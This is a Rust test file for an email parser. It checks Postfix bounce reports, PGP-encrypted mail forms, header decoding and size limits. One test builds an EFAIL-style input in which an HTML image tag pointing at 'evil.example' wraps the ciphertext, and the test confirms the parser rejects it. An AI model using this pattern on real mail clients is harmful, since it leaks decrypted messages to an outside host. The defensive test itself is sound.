//! Mails as servers and programs write them, and mails that nobody should write.

use super::*;

fn crlf(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

fn read(text: &str) -> Result<Shape, Refused> {
    let raw = crlf(text);
    let mail = Entity::parse(&raw, LARGEST)?;
    shape(&mail)
}

fn refused(text: &str) -> Refused {
    match read(text) {
        Ok(_) => panic!("taken: {text}"),
        Err(refused) => refused,
    }
}

fn clear(text: &str) -> Piece {
    match read(text) {
        Ok(Shape::Clear(piece)) => piece,
        Ok(_) => panic!("not clear"),
        Err(refused) => panic!("{refused}"),
    }
}

/// As Postfix 3.7 writes it.
const POSTFIX: &str = "Return-Path: <>
From: MAILER-DAEMON@mx.example (Mail Delivery System)
To: n-0123456789abcdef0123456789abcdef@bounces.meadow.example
Subject: Undelivered Mail Returned to Sender
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary=\"4BD5F1FE.1795/mx.example\"
Message-Id: <20261120120000.1@mx.example>

This is a MIME-encapsulated message.

--4BD5F1FE.1795/mx.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

I'm sorry to have to inform you that your message could not be delivered.

--4BD5F1FE.1795/mx.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example
Original-Envelope-Id: 0123456789ABCDEF0123456789ABCDEF
X-Postfix-Queue-ID: 4BD5F1FE
X-Postfix-Sender: rfc822; n-0123456789abcdef0123456789abcdef@bounces.meadow.example
Arrival-Date: Fri, 20 Nov 2026 12:00:00 +0000 (UTC)

Final-Recipient: rfc822; security@heath.example
Original-Recipient: rfc822;security@heath.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mail.heath.example
Diagnostic-Code: smtp; 550 5.1.1 <security@heath.example>: Recipient address
    rejected: User unknown

--4BD5F1FE.1795/mx.example
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

Return-Path: <n-0123456789abcdef0123456789abcdef@bounces.meadow.example>
From: security@meadow.example
To: security@heath.example
Subject: [...]
Message-ID: <ffff@meadow.example>

--4BD5F1FE.1795/mx.example--
";

#[test]
fn a_report_as_postfix_writes_it() {
    let Ok(Shape::Report(dsn)) = read(POSTFIX) else { panic!("not a report") };
    assert_eq!(dsn.envelope_id.as_deref(), Some("0123456789ABCDEF0123456789ABCDEF"));
    assert_eq!(dsn.message_id.as_deref(), Some("ffff@meadow.example"));
    let told = dsn.worst().unwrap();
    assert_eq!((told.fate, told.code.as_str()), (Fate::Failed, "5.1.1"));
    assert_eq!(
        told.said,
        "550 5.1.1 <security@heath.example>: Recipient address rejected: User unknown"
    );
    let delayed = POSTFIX.replace("Action: failed\nStatus: 5.1.1", "Action: delayed\nStatus: x");
    let Ok(Shape::Report(dsn)) = read(&delayed) else { panic!("not a report") };
    let told = dsn.worst().unwrap();
    assert_eq!((told.fate, told.code.as_str()), (Fate::Delayed, "4.0.0"));
    let none = POSTFIX.replace("Action: failed", "Action: shouted");
    assert_eq!(refused(&none), Refused::Malformed);
}

/// What POSTFIX says of its one recipient, said of several.
fn of_several(all: &[(&str, &str, &str)]) -> Dsn {
    let group = |(to, original, action): &(&str, &str, &str)| {
        format!(
            "Final-Recipient: rfc822; {to}\nOriginal-Recipient: {original}\nAction: {action}\n\n"
        )
    };
    let (before, rest) = POSTFIX.split_once("Final-Recipient").unwrap();
    let (_, after) = rest.split_once("\n\n").unwrap();
    let groups: String = all.iter().map(group).collect();
    let text = format!("{before}{}\n\n{after}", groups.trim_end());
    match read(&text) {
        Ok(Shape::Report(dsn)) => dsn,
        _ => panic!("not a report: {text}"),
    }
}

#[test]
fn a_report_on_several_is_judged_by_the_address_that_was_ours() {
    let role = "rfc822;security+x@larch.example";
    let dsn = of_several(&[
        ("gone@larch.example", role, "failed"),
        ("<Security+2Bx@larch.example>", role, "delivered"),
        ("late@larch.example", role, "delayed"),
    ]);
    let fate = |dsn: &Dsn, of: &str| dsn.of(of).unwrap().fate;
    // Its own group counts before those of the people behind it.
    assert_eq!(fate(&dsn, "security+x@larch.example"), Fate::Went);
    assert_eq!(fate(&dsn, "late@larch.example"), Fate::Delayed);
    // Named nowhere: the worst, whoever it is about.
    assert_eq!(fate(&dsn, "other@larch.example"), Fate::Failed);
    // Two of its people, and one who only stands in the same report.
    let dsn = of_several(&[
        ("ann@larch.example", "rfc822; security@larch.example", "delivered"),
        ("bob@larch.example", "rfc822; SECURITY@larch.example", "delayed"),
        ("stranger@fennel.example", "rfc822; stranger@fennel.example", "failed"),
    ]);
    assert_eq!(fate(&dsn, "security@larch.example"), Fate::Delayed);
}

/// `aGVsbG8=` is no OpenPGP message, which nobody here looks at.
const ARMOR: &str = "-----BEGIN PGP MESSAGE-----\nVersion: x\nComment: y\n\naGVs\nbG8=\n=AbCd\n-----END PGP MESSAGE-----\n";

fn rfc3156() -> String {
    format!(
        "Subject: ...\nMIME-Version: 1.0\nContent-Type: multipart/encrypted; boundary=b;\n \
         protocol=\"application/pgp-encrypted\"\n\n--b\nContent-Type: application/pgp-encrypted\n\n\
         Version: 1\n\n--b\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n\
         {ARMOR}\n--b--\n"
    )
}

fn mixed(parts: &[(&str, &str)]) -> String {
    let parts: String =
        parts.iter().map(|(head, body)| format!("--b\n{head}\n\n{body}\n")).collect();
    format!("Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n")
}

const VERSION: (&str, &str) = ("Content-Type: application/pgp-encrypted", "Version: 1");

#[test]
fn three_forms_of_encrypted_mail() {
    let armored = ("Content-Type: application/octet-stream; name=\"encrypted.asc\"", ARMOR);
    // Exchange puts an empty text before what it no longer understands.
    let outlook =
        mixed(&[("Content-Type: text/plain; charset=utf-8", "\u{a0}\n"), VERSION, armored]);
    let inline = format!("Subject: Re: [...]\n\n{ARMOR}\n\n");
    let base64 = mixed(&[(
        "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64",
        "LS0tLS1CRUdJTiBQR1AgTUVTU0FHRS0tLS0tCgphR1Zz\nYkc4PQotLS0tLUVORCBQR1AgTUVTU0FHRS0tLS0tCg==",
    )]);
    for mail in [rfc3156(), outlook, inline, base64] {
        match read(&mail) {
            Ok(Shape::Encrypted(message)) => assert_eq!(message, b"hello", "{mail}"),
            Ok(_) => panic!("not encrypted: {mail}"),
            Err(refused) => panic!("{refused}: {mail}"),
        }
    }
}

#[test]
fn nothing_may_stand_beside_the_ciphertext() {
    let armored = ("Content-Type: application/octet-stream", ARMOR);
    let html = ("Content-Type: text/html", "<img src=\"http://evil.example/?");
    let words = ("Content-Type: text/plain", "See below.");
    for mail in [
        mixed(&[words, armored]),
        mixed(&[html, armored, ("Content-Type: text/html", "\">")]),
        mixed(&[armored, armored]),
        mixed(&[VERSION, words]),
        format!("Subject: x\n\nHello,\n{ARMOR}"),
        format!("Subject: x\n\n{ARMOR}\nfooter\n"),
        rfc3156().replace("--b--", "--b\nContent-Type: text/plain\n\nfooter\n--b--"),
    ] {
        assert_eq!(refused(&mail), Refused::Mixed, "{mail}");
    }
    let broken = rfc3156().replace("-----END PGP MESSAGE-----", "");
    assert_eq!(refused(&broken), Refused::Malformed);
    let no_body = rfc3156().replace(ARMOR, "");
    assert!(matches!(refused(&no_body), Refused::Malformed | Refused::Mixed));
}

#[test]
fn what_was_inside_is_not_opened_again() {
    let twice = crlf(&rfc3156());
    let entity = Entity::parse(&twice, LARGEST).unwrap();
    assert_eq!(inside(&entity).err(), Some(Refused::Nested));
    let signed = crlf(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n\
         --s\nContent-Type: text/plain\nSubject: real\n\nhello\n\n--s\n\
         Content-Type: application/pgp-signature\n\nsignature\n--s--\n",
    );
    let entity = Entity::parse(&signed, LARGEST).unwrap();
    let (piece, part) = inside(&entity).unwrap();
    let part = part.unwrap();
    assert_eq!(piece.text, "hello\n");
    assert_eq!(part.over, b"Content-Type: text/plain\r\nSubject: real\r\n\r\nhello\r\n");
    assert_eq!(part.entity.text("Subject"), "real");
}

#[test]
fn text_and_names_are_decoded() {
    let mail = "From: \"A B\" <a@b.example>\nSubject: =?utf-8?q?gr=C3=BC=C3=9Fe?=\n\
                In-Reply-To: <1@m>\nReferences: <0@m>\n <1@m>\nDelivered-To: x@y\n\
                X-Original-To: z@y\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\
                Content-Type: text/plain; charset=iso-8859-1\n\
                Content-Transfer-Encoding: quoted-printable\n\ngr=FC=\n=DFe\n--b\n\
                Content-Type: text/html; name=page.html\nContent-Transfer-Encoding: base64\n\n\
                aGVs\nbG8\n--b--\n";
    let piece = clear(mail);
    assert_eq!(piece.text, "grüße");
    assert_eq!(piece.enclosed[0].name, "page.html");
    assert_eq!((piece.enclosed[0].media_type.as_str(), piece.enclosed[0].len), ("text/html", 5));
    let raw = crlf(mail);
    let entity = Entity::parse(&raw, LARGEST).unwrap();
    assert_eq!(entity.text("Subject"), "grüße");
    assert_eq!(entity.ids("References"), ["0@m", "1@m"]);
    assert_eq!(entity.ids("In-Reply-To"), ["1@m"]);
    assert_eq!(entity.addresses("From"), ["a@b.example"]);
    assert_eq!(entity.addresses("Delivered-To"), ["x@y"]);
    assert_eq!(entity.addresses("X-Original-To"), ["z@y"]);
}

#[test]
fn bounds_hold() {
    let deep: String = (0..10)
        .map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n"))
        .collect();
    assert_eq!(refused(&deep), Refused::TooDeep);
    let many =
        format!("Content-Type: multipart/mixed; boundary=b\n\n{}", "--b\n\n".repeat(300_000));
    assert_eq!(refused(&many), Refused::TooManyParts);
    assert_eq!(refused(&"X-A: b\n".repeat(2000)), Refused::Headers);
    assert_eq!(refused(&format!("Subject: {}\n\n", "x".repeat(70_000))), Refused::Headers);
    let twice = "Content-Type: text/plain\nContent-Type: text/html\n\nx\n";
    assert_eq!(refused(twice), Refused::Ambiguous);
    assert_eq!(refused("Content-Type: multipart/mixed\n\nx\n"), Refused::Malformed);
    for empty in ["", "\n", "\n\nx", "x", ":", ": x\n\n", " folded\n\n", "\u{0}\n"] {
        let raw = crlf(empty);
        let entity = Entity::parse(&raw, LARGEST).unwrap();
        assert_eq!((entity.text("Subject").as_str(), entity.addresses("To").len()), ("", 0));
        assert!(shape(&entity).is_ok() && entity.file_name().is_none(), "{empty:?}");
    }
    let large = vec![b'x'; LARGEST + 1];
    assert_eq!(Entity::parse(&large, LARGEST).err(), Some(Refused::TooLarge));
}
